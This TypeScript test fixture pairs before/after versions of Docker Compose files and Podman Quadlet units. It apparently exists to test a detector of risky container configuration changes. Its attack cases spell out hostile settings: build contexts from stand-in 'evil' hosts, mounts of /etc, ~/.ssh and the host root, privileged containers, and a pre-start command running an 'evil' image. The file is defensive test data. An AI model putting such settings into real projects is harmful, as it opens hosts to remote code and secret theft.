import type { Change } from '../../support/in-memory-repository.ts';

const dockerfile = 'FROM ghcr.io/acme/base:1.2\nCOPY --from=tools /bin/tool /bin/tool\nUSER 1000\n';
const service = (more: string): string => `services:\n  web:\n    image: ghcr.io/acme/web:1.4.2\n${more}`;
const changed = (before: string, after: string, path = 'compose.yaml'): Change => ({
  base: { Dockerfile: dockerfile, [path]: service(before) },
  head: { Dockerfile: dockerfile, [path]: service(after) },
});
const context = (written: string): Change =>
  changed('    build: {context: .}\n', `    build: {context: ., additional_contexts: ${written}}\n`);
const provided = (provider: string): string => `  db:\n    provider: ${provider}\n`;

/** Changes of Compose files by which something runs, is mounted or is built with that no file of the repository holds. */
export const composeAttacks: Readonly<Record<string, Change>> = {
  'a program of the repository as a provider': changed('', provided('{type: ./start.sh}')),
  'a provider by its name': changed('', provided('{type: awesomecloud, options: {type: mysql}}')),
  'another option of a provider': changed(
    provided('{type: awesomecloud, options: {a: b}}'),
    provided('{type: awesomecloud, options: {a: c}}'),
  ),
  'a provider that a variable names': changed('', provided('{type: "${PROVIDER}"}')),
  'a provider by a default': changed('', provided('{type: "${PROVIDER:-./start.sh}"}')),
  'a provider by an alias': {
    base: { 'compose.yaml': service('') },
    head: { 'compose.yaml': `x-p: &p {type: ./start.sh}\n${service(provided('*p'))}` },
  },
  'a provider that a service takes over from a file that was there': {
    base: { 'compose.yaml': service(''), 'lib/base.yaml': `services:\n${provided('{type: evil}')}` },
    head: {
      'compose.yaml': service('  db:\n    extends: {file: lib/base.yaml, service: db}\n'),
      'lib/base.yaml': `services:\n${provided('{type: evil}')}`,
    },
  },
  'a provider in an override': {
    base: { 'compose.yaml': service('') },
    head: { 'compose.yaml': service(''), 'compose.override.yaml': 'services:\n  web:\n    provider: {type: evil}\n' },
  },
  'a named context in another repository': context('{tools: "https://github.com/evil/tools.git"}'),
  'a named context of git, by its short name': context('{tools: github.com/evil/tools}'),
  'a named context by SSH': context('["tools=git@github.com:evil/tools.git"]'),
  'a named context that is an archive': context('{tools: "http://evil.example/tools.tar.gz"}'),
  'a named context that is a layout of OCI': context('{tools: "oci-layout:///srv/images/tools"}'),
  'a named context of the host': context('{tools: /etc}'),
  'a named context above the repository': context('["tools=../../.."]'),
  'a named context in somebody’s home': context('{tools: ~/.ssh}'),
  'a named context by a variable': context('{tools: "${TOOLS}"}'),
  'a named context that only where Compose runs is known': context('[tools]'),
  'a named context beside one that was there': changed(
    '    build: {context: ., additional_contexts: {lib: "https://github.com/acme/lib.git"}}\n',
    '    build: {context: ., additional_contexts: {lib: "https://github.com/acme/lib.git", tools: "https://github.com/evil/tools.git"}}\n',
  ),
  'the mounts of a container that was there': changed('', '    volumes_from: ["container:agent"]\n'),
  'the mounts of a container in a part of a service': {
    base: { 'deploy/docker-compose.prod.yml': 'services:\n  web:\n    environment: {A: b}\n' },
    head: { 'deploy/docker-compose.prod.yml': 'services:\n  web:\n    environment: {A: b}\n    volumes_from: ["container:agent:rw"]\n' },
  },
};

const unit = (section: string, more: string): string =>
  `[Unit]\nDescription=The shop\n\n[${section}]\n${more}\n[Install]\nWantedBy=default.target\n`;
const web = unit('Container', 'Image=ghcr.io/acme/web:1.4.2\nReadOnly=true\nNoNewPrivileges=true\nDropCapability=ALL\n');
const units = (path: string, head: string, base?: string): Change => ({
  base: { 'README.md': 'x', ...(base !== undefined && { [path]: base }) },
  head: { 'README.md': 'x', [path]: head },
});
const edited = (from: string, to: string): Change => units('quadlet/web.container', web.replace(from, to), web);

/** Changes of units by which Podman has systemd run containers (Quadlet). */
export const quadletAttacks: Readonly<Record<string, Change>> = {
  'a new container': units('quadlet/web.container', web),
  'another image': edited('acme/web', 'evil/web'),
  'arguments of Podman': edited('ReadOnly', 'PodmanArgs=--privileged\nReadOnly'),
  'a mount of the host': edited('ReadOnly', 'Volume=/:/host\nReadOnly'),
  'the network of the host': edited('ReadOnly', 'Network=host\nReadOnly'),
  'what guarded it is gone': edited('NoNewPrivileges=true\n', ''),
  'what guarded it is off': edited('ReadOnly=true', 'ReadOnly=false'),
  'a line that goes on in the next': edited('DropCapability=ALL', 'DropCapability=ALL\nAddCapability= \\\n  # a comment\n  SYS_ADMIN'),
  'a program of the host before it': edited('[Install]', '[Service]\nExecStartPre=/usr/bin/podman run --privileged evil\n[Install]'),
  'spaces around the sign, and line ends of Windows': edited('ReadOnly=true\n', 'ReadOnly = false\r\n'),
  'a template of units': units('web@.container', web.replace('DropCapability=ALL', 'SecurityLabelDisable=true')),
  'a pod': units('shop.pod', unit('Pod', 'PodmanArgs=--pid=host\n')),
  manifests: units('shop.kube', unit('Kube', 'Yaml=https://evil.example/pod.yaml\n')),
  'a build': units('shop.build', unit('Build', 'ImageTag=localhost/shop\nSetWorkingDirectory=https://github.com/evil/shop.git\n')),
  'an image': units('shop.image', unit('Image', 'Image=ghcr.io/evil/web\nTLSVerify=false\n')),
  'a volume': units('data.volume', unit('Volume', 'Device=/\nType=none\nOptions=bind\n')),
  'a file on top of a unit': units('web.container.d/10-debug.conf', '[Container]\nPodmanArgs=--privileged\n'),
  'a file on top of a unit, which guarded it and is gone': {
    base: { 'web.container': web, 'web.container.d/harden.conf': '[Container]\nNoNewPrivileges=true\n' },
    head: { 'web.container': web },
  },
  'a unit in another folder than before': {
    base: { 'examples/web.container': web },
    head: { 'prod/web.container': web },
    renames: { 'examples/web.container': 'prod/web.container' },
  },
};

const model = provided('{type: model, options: {model: ai/smollm2}}');

/** Changes of the same files that bring in nothing of that kind. */
export const ordinaryContainers: Readonly<Record<string, Change>> = {
  'a model of Docker’s own': changed('', model),
  'another model, and another setting of a service beside a provider': changed(
    `${model}${provided('{type: awesomecloud}').replace('db', 'cloud')}`,
    `    labels: {a: b}\n${model.replace('smollm2', 'qwen3')}${provided('{type: awesomecloud} # as before').replace('db', 'cloud')}`,
  ),
  'named contexts that are other services, stages and folders of the repository': context(
    '{app: "service:app", stage: "target:x", lib: ./lib, all: .}',
  ),
  'a named context that is a pinned image': context(`{tools: "docker-image://ghcr.io/acme/tools:1.2@sha256:${'a'.repeat(64)}"}`),
  'a named context of the repository, by a variable': context('{tools: "./${FLAVOR}/tools"}'),
  'the mounts of another service': changed('', '    volumes_from: [db]\n  db:\n    image: ghcr.io/acme/db:1.2\n'),
  'the network of a container that was there': changed('', '    network_mode: "container:vpn"\n'),
  'words, checks and labels of a unit': edited(
    'ReadOnly',
    'Label=team=shop\nEnvironment=LEVEL=debug\nHealthCmd=/bin/check\nLogDriver=journald\nReadOnly',
  ),
  'how systemd starts a unit': edited('[Install]', '[Service]\nRestart=always\nTimeoutStartSec=900\n[Install]'),
  'comments of a unit': edited('ReadOnly', '# Nothing is written.\n; Nor read.\nReadOnly'),
  'a unit that is gone': { base: { 'a.container': web, 'README.md': 'x' }, head: { 'README.md': 'x' } },
  'a network of Podman’s': units('shop.network', '[Network]\nSubnet=10.89.0.0/24\n'),
  'documentation of Perl and other files that end like units': {
    base: { 'lib/Shop.pod': '=head1 NAME\n\nShop\n', 'disk.image': 'x' },
    head: { 'lib/Shop.pod': '=head1 NAME\n\nShop - a shop\n', 'disk.image': 'y', 'a.build': 'steps=1\n', 'x.volume': '[settings]\na=b\n' },
  },
};
